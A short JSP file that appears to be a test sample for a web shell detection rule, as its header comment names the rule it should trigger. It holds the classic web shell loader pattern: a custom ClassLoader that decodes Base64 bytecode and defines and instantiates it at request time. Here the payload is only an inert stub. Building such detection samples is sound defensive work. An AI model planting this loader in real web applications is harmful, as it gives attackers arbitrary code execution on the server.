<%-- expect rule=jsp.classloader-embedded min=70 --%>
<%!
    class L extends ClassLoader { Class d(byte[] b) { return defineClass(null, b, 0, b.length); } }
%>
<%
    String blob = "yv66vgAAADQACgoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClW";
    byte[] code = java.util.Base64.getDecoder().decode(blob);
    new L().d(code).newInstance();
%>
